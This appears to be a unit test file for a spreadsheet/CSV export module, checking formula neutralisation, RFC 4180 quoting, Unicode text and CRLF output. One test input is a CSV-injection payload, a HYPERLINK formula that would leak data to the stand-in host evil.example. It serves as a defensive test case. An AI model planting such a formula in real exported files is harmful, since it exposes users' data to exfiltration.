import { describe, expect, it } from 'vitest';
import { csvField, neutralizeFormula, toCsv } from '../src/export';

describe('spreadsheet cell writer', () => {
  it.each(['=HYPERLINK("http://evil.example/?leak","x")', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx'])('neutralises formula text %j', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });
  it('keeps ordinary and Vietnamese text, and numbers (negative too), as they are', () => {
    expect(csvField('Xã Ia Băng')).toBe('Xã Ia Băng');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(null)).toBe('');
  });
  it('quotes per RFC 4180 after neutralising', () => {
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
  });
  it('writes CRLF documents with an optional BOM', () => {
    expect(toCsv(['a', 'b'], [[1, '=x']], { bom: true })).toBe("\uFEFFa,b\r\n1,'=x\r\n");
  });
});
